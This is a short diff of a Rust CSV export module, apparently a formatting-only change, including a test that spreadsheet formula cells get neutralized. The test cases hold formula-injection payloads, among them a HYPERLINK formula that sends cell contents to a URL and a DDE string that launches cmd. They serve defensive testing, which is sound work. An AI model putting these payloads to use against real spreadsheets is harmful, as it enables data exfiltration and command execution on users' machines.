@@ -91,7 +91,10 @@ where
 
 pub fn csv(members: &[Member]) -> String {
     let header = COLUMNS.map(str::to_owned);
-    csv_records(b',', std::iter::once(header).chain(members.iter().map(cells)))
+    csv_records(
+        b',',
+        std::iter::once(header).chain(members.iter().map(cells)),
+    )
 }
 
 /// One sheet, right to left, with a bold frozen header and text cells (a CIN or a number
@@ -159,7 +162,10 @@ mod tests {
     #[test]
     fn cells_that_a_spreadsheet_would_run_are_neutralized() {
         let cases = [
-            ("=HYPERLINK(\"http://x\"&A1,\"x\")", "'=HYPERLINK(\"http://x\"&A1,\"x\")"),
+            (
+                "=HYPERLINK(\"http://x\"&A1,\"x\")",
+                "'=HYPERLINK(\"http://x\"&A1,\"x\")",
+            ),
             ("@SUM(A1)", "'@SUM(A1)"),
             ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
             ("-2+3", "'-2+3"),
